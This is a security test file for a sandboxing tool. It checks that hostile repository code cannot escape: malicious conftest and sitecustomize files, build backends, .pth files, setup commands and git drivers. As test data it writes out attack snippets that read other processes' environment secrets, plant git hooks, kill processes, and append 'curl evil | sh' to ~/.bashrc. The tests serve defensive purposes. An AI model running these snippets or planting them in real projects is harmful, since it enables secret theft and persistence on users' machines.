"""Family C: the target repository's own code against the sandbox — a hostile base's conftest.py and
sitecustomize.py during the base measurement, a change's tests during the tests gate, build backends and
setup commands while its environment is built, and git drivers the host's git would run."""

from __future__ import annotations

import re
import subprocess
import textwrap
from pathlib import Path

import pytest

from darkfactory.gates import GateContext, run_gates
from darkfactory.gates.baseline import measure_base
from darkfactory.target_env import TargetEnvError, ensure_target_env
from darkfactory.workspace import GitRun, changed_paths, diff_text, ensure_worktree
from tests.conftest import backend_pyproject, git, make_repo
from tests.security.conftest import Host
from tests.security.demo_repos import hostile_base, hostile_change

pytestmark = pytest.mark.family("C")


def attempt(action: str) -> str:
    """Python that tries `action` and leaves `outcome`: the exception's name when blocked, ESCAPED if not."""
    body = "\n".join("    " + line for line in action.splitlines())
    return (
        "import glob, os, pathlib, signal, socket, subprocess\n"
        "try:\n"
        f"{body}\n"
        "    outcome = 'ESC' + 'APED'\n"  # spelled at run time: an echoed command shows no verdict
        "except BaseException as exc:\n"
        "    outcome = type(exc).__name__\n"
    )


def actions(host: Host) -> dict[str, str]:
    return {
        "worker-environ": f"open('/proc/{host.worker.pid}/environ', 'rb').read()",
        "scan-environ": "assert [p for p in glob.glob('/proc/*/environ') if b'CANARY' in open(p, 'rb').read()]",
        "write-host": f"pathlib.Path({str(host.root / 'planted')!r}).write_text('x')",
        "loopback": f"socket.create_connection(('127.0.0.1', {host.port}), timeout=3)",
        "kill-worker": f"os.kill({host.worker.pid}, signal.SIGKILL)",
        "honey": f"open({str(host.honey)!r}).read()",
        "other-repo": f"open({str(host.root / 'other-repo' / 'main.py')!r}).read()",
        "git-hook": "pathlib.Path('.git/hooks/post-checkout').write_text('#!/bin/sh\\ntouch /tmp/pwned-hook\\n')",
    }


def measured(ctx: GateContext, tmp_path: Path) -> str:
    scratch = tmp_path / "scratch"
    scratch.mkdir(exist_ok=True)
    _, transcript = measure_base(ctx, scratch)
    return transcript


def assert_blocked(text: str, host: Host) -> None:
    assert re.search(r"OUTCOME [A-Za-z]", text), text[-3000:]
    assert "ESCAPED" not in text, text[-3000:]
    host.assert_untouched(text)
    assert not Path("/tmp/pwned-hook").exists()


CONFTEST_ATTACKS = ["worker-environ", "scan-environ", "write-host", "loopback", "kill-worker", "honey", "git-hook"]


@pytest.mark.parametrize("name", CONFTEST_ATTACKS)
def test_a_hostile_conftest_in_the_base(name: str, tmp_path: Path, host: Host) -> None:
    code = attempt(actions(host)[name]) + "raise RuntimeError('OUTCOME ' + outcome)\n"
    ctx = hostile_base(tmp_path, {"conftest.py": code})
    assert_blocked(measured(ctx, tmp_path), host)
    # The planted hook, had it landed, would run in the host's next checkout.
    ensure_worktree(ctx.repo_path, tmp_path / "wt2", ctx.sha)
    assert not Path("/tmp/pwned-hook").exists()


@pytest.mark.parametrize("name", ["write-host", "other-repo"])
def test_a_hostile_sitecustomize_in_the_base(name: str, tmp_path: Path, host: Host) -> None:
    # The tree is on PYTHONPATH, so its sitecustomize.py runs at every interpreter start in the sandbox.
    code = attempt(actions(host)[name]) + "print('OUTCOME ' + outcome)\n"
    ctx = hostile_base(tmp_path, {"sitecustomize.py": code})
    assert_blocked(measured(ctx, tmp_path), host)


def test_a_daemon_left_by_the_base_suite_is_killed(tmp_path: Path, host: Host) -> None:
    spawner = (
        "import subprocess, sys\n"
        "subprocess.Popen(['setsid', sys.executable, '-c', "
        f"\"import signal, socket; signal.pause(); socket.create_connection(('127.0.0.1', {host.port}))"
        '  # df-base-daemon"])\n'
        "print('OUTCOME spawned')\n"
    )
    ctx = hostile_base(tmp_path, {"conftest.py": spawner})
    text = measured(ctx, tmp_path)
    leftovers = subprocess.run(["pgrep", "-f", "df-base-daemon"], capture_output=True, text=True)
    assert leftovers.stdout == "", "a process the suite started outlived it"
    host.assert_untouched(text)


def test_a_report_swapped_for_a_symlink_is_not_followed(tmp_path: Path, host: Host) -> None:
    swapper = (
        "import os\n"
        "def pytest_sessionfinish(session):\n"
        "    path = session.config.option.xmlpath\n"
        "    if path:\n"
        "        session.config.option.xmlpath = None\n"
        "        os.makedirs(os.path.dirname(path), exist_ok=True)\n"
        f"        os.symlink({str(host.honey)!r}, path)\n"
    )
    ctx = hostile_base(tmp_path, {"conftest.py": swapper})
    text = measured(ctx, tmp_path)
    host.assert_untouched(text)


@pytest.mark.parametrize("name", ["worker-environ", "loopback", "write-host", "git-hook"])
def test_a_hostile_test_in_the_change(name: str, tmp_path: Path, host: Host) -> None:
    body = attempt(actions(host)[name]) + "assert False, 'OUTCOME ' + outcome\n"
    source = "def test_hostile():\n" + textwrap.indent(body, "    ")
    ctx = hostile_change(tmp_path, {"tests/test_hostile.py": source})
    report = run_gates(ctx)
    (result,) = report.results
    text = result.summary + result.feedback
    assert not result.passed
    assert_blocked(text, host)


def test_home_writes_by_tested_code_stay_in_the_sandbox(tmp_path: Path, host: Host) -> None:
    bashrc = Path.home() / ".bashrc"
    before = bashrc.read_bytes() if bashrc.exists() else None
    source = (
        "import os\n\n\ndef test_home():\n"
        "    with open(os.path.expanduser('~/.bashrc'), 'a') as rc:\n"
        "        rc.write('curl evil | sh\\n')\n"
        "    assert False, 'OUTCOME home=' + os.path.expanduser('~')\n"
    )
    ctx = hostile_change(tmp_path, {"tests/test_home.py": source})
    (result,) = run_gates(ctx).results
    assert "OUTCOME home=/tmp/home" in result.feedback, result.feedback
    assert (bashrc.read_bytes() if bashrc.exists() else None) == before
    host.assert_untouched(result.feedback)


EVIL_BACKEND = """
{attempt}
print('OUTCOME', outcome)
raise SystemExit('OUTCOME ' + outcome)
"""


@pytest.mark.parametrize("name", ["worker-environ", "scan-environ", "write-host", "loopback", "honey"])
def test_a_build_backend_in_a_changed_requirement(name: str, tmp_path: Path, host: Host) -> None:
    repo = tmp_path / "repo"
    (repo / "evilpkg").mkdir(parents=True)
    (repo / "requirements.txt").write_text("./evilpkg\n")
    (repo / "evilpkg" / "pyproject.toml").write_text(backend_pyproject("evilpkg", "evil_backend"))
    (repo / "evilpkg" / "evil_backend.py").write_text(EVIL_BACKEND.format(attempt=attempt(actions(host)[name])))
    with pytest.raises(TargetEnvError) as failure:
        ensure_target_env(repo, tmp_path / "envs")
    assert_blocked(str(failure.value), host)


def test_a_policy_setup_command_is_sandboxed(tmp_path: Path, host: Host) -> None:
    repo = tmp_path / "repo"
    repo.mkdir()
    setup = [["python", "-c", attempt(actions(host)["honey"]) + "raise SystemExit('OUTCOME ' + outcome)"]]
    with pytest.raises(TargetEnvError) as failure:
        ensure_target_env(repo, tmp_path / "envs", setup)
    assert_blocked(str(failure.value), host)


def test_a_process_left_by_setup_is_killed(tmp_path: Path, host: Host) -> None:
    repo = tmp_path / "repo"
    repo.mkdir()
    # It blocks until a signal, so it connects only if it outlives setup; no clock involved.
    connect = f"socket.create_connection(('127.0.0.1', {host.port}))"
    daemon = f"import signal, socket; signal.pause(); {connect}  # df-setup-daemon"
    setup = [["bash", "-c", f'setsid python -c "{daemon}" >/dev/null 2>&1 & echo OUTCOME spawned']]
    ensure_target_env(repo, tmp_path / "envs", setup)
    leftovers = subprocess.run(["pgrep", "-f", "df-setup-daemon"], capture_output=True, text=True)
    assert leftovers.stdout == "", "a process setup started outlived it"
    host.assert_untouched()


PTH_BACKEND = r"""
import base64, hashlib, os, zipfile

PTH = "import pathlib; pathlib.Path(MARKER).write_text('x')\n"
META = "Metadata-Version: 2.1\nName: pthpkg\nVersion: 1\n"
WHEEL = "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"


def _digest(text):
    return base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=").decode()


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    name = "pthpkg-1-py3-none-any.whl"
    files = {"evil.pth": PTH, "pthpkg-1.dist-info/METADATA": META, "pthpkg-1.dist-info/WHEEL": WHEEL}
    record = "".join(f"{k},sha256={_digest(v)},{len(v)}\n" for k, v in files.items())
    files["pthpkg-1.dist-info/RECORD"] = record + "pthpkg-1.dist-info/RECORD,,\n"
    with zipfile.ZipFile(os.path.join(wheel_directory, name), "w") as archive:
        for k, v in files.items():
            archive.writestr(k, v)
    return name
"""


def test_a_pth_file_from_a_requirement_runs_only_inside_the_sandbox(tmp_path: Path, host: Host) -> None:
    marker = host.root / "pth-ran"
    repo = tmp_path / "repo"
    (repo / "pthpkg").mkdir(parents=True)
    (repo / "requirements.txt").write_text("./pthpkg\n")
    backend = PTH_BACKEND.replace("MARKER", repr(str(marker)))
    (repo / "pthpkg" / "pyproject.toml").write_text(backend_pyproject("pthpkg", "backend"))
    (repo / "pthpkg" / "backend.py").write_text(backend)
    env = ensure_target_env(repo, tmp_path / "envs")
    assert (env.root / "lib").exists()
    installed = list(env.root.rglob("evil.pth"))
    assert installed, "the .pth was installed (it runs at every interpreter start, sandboxed)"
    assert not marker.exists()
    host.assert_untouched()


def test_a_planted_venv_main_is_not_run(tmp_path: Path, host: Host) -> None:
    repo = tmp_path / "repo"
    (repo / "venv").mkdir(parents=True)
    (repo / "venv" / "__init__.py").write_text("")
    (repo / "venv" / "__main__.py").write_text(f"open({str(host.root / 'venv-ran')!r}, 'w').write('x')\n")
    (repo / "requirements.txt").write_text("")
    ensure_target_env(repo, tmp_path / "envs")
    host.assert_untouched()


def test_the_targets_filter_driver_never_runs_on_the_host(tmp_path: Path, host: Host) -> None:
    marker = host.root / "filter-ran"
    repo = make_repo(tmp_path / "repo")
    git(repo, "config", "filter.evil.smudge", f"touch {marker}; cat")
    git(repo, "config", "filter.evil.clean", f"touch {marker}; cat")
    git(repo, "config", "filter.evil.required", "true")
    base = git(repo, "rev-parse", "HEAD")
    (repo / ".gitattributes").write_text("* filter=evil\n")
    (repo / "notes.txt").write_text("hello\n")
    (repo / "notes.txt").touch()
    GitRun(repo)("add", "-A")
    GitRun(repo)("commit", "-q", "-m", "attributes")
    sha = GitRun(repo)("rev-parse", "HEAD")
    ensure_worktree(str(repo), tmp_path / "wt", sha)
    changed_paths(str(repo), base, sha)
    assert not marker.exists()
    host.assert_untouched()


def test_the_targets_textconv_driver_never_runs_on_the_host(tmp_path: Path, host: Host) -> None:
    marker = host.root / "textconv-ran"
    repo = make_repo(tmp_path / "repo")
    git(repo, "config", "diff.evil.textconv", f"sh -c 'touch {marker}; cat \"$1\"' --")
    git(repo, "config", "diff.evil.command", f"touch {marker}")
    base = git(repo, "rev-parse", "HEAD")
    (repo / ".gitattributes").write_text("*.txt diff=evil\n")
    (repo / "notes.txt").write_text("hello\n")
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "attributes")
    sha = git(repo, "rev-parse", "HEAD")
    assert "hello" in diff_text(str(repo), base, sha)
    assert not marker.exists()
    host.assert_untouched()
